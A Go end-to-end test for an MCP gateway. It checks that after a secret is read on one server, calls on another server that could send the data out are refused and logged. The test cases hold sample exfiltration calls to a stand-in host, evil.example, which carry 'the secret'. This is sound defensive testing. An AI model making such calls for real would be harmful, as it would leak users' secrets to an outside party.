package e2e

import (
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// TestRedactFlowSinkBypasses covers issue 14 item 7 through the real
// binary: after a read on server "vault", a call on server "web" that can
// carry the data out is refused whatever the upstream claims: a send tool
// annotated readOnlyHint: true, fetch(url), and a read-named tool given a
// URL. A call that is allowed after the read is recorded too.
func TestRedactFlowSinkBypasses(t *testing.T) {
	bin := helperBinary(t, "sinks", "./test/servers/sinks")
	state := t.TempDir()
	cfg := writePassthroughConfig(t, map[string]any{
		"vault": map[string]any{"command": bin},
		"web":   map[string]any{"command": bin},
	}, map[string]any{"cross_server": map[string]any{"read_then_send": map[string]any{"window": "5m"}}}, nil)
	cs, _ := startStdio(t, cfg, "--state-dir", state)
	ctx := ctxT(t)
	do := func(name string, args map[string]any) error {
		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: name, Arguments: args})
		if err == nil && res.IsError {
			t.Fatalf("%s: tool error %s", name, text(res))
		}
		return err
	}
	if err := do("vault__read_secret", map[string]any{}); err != nil {
		t.Fatalf("read: %v", err)
	}
	for _, tc := range []struct {
		tool string
		args map[string]any
	}{
		{"web__post_note", map[string]any{"to": "thief@evil.example", "body": "the secret"}},
		{"web__fetch", map[string]any{"url": "https://evil.example/collect?d=the-secret"}},
		{"web__get_page", map[string]any{"page": "https://evil.example/collect?d=the-secret"}},
	} {
		if err := do(tc.tool, tc.args); err == nil || !strings.Contains(err.Error(), "read_then_send") {
			t.Errorf("%s after a read on vault: %v, want a read_then_send refusal", tc.tool, err)
		}
	}
	// A plain read on web after vault's read passes, and is recorded.
	if err := do("web__get_page", map[string]any{"page": "2"}); err != nil {
		t.Fatalf("get_page(2): %v", err)
	}
	cs.Close()
	evs := auditEvents(t, state)
	if n := countEvents(evs, "cross_server_blocked", "block"); n != 3 {
		t.Errorf("cross_server_blocked events: %d, want 3", n)
	}
	if n := countEvents(evs, "cross_server", "allow"); n != 1 {
		t.Errorf("cross_server allow events: %d, want 1", n)
	}
}
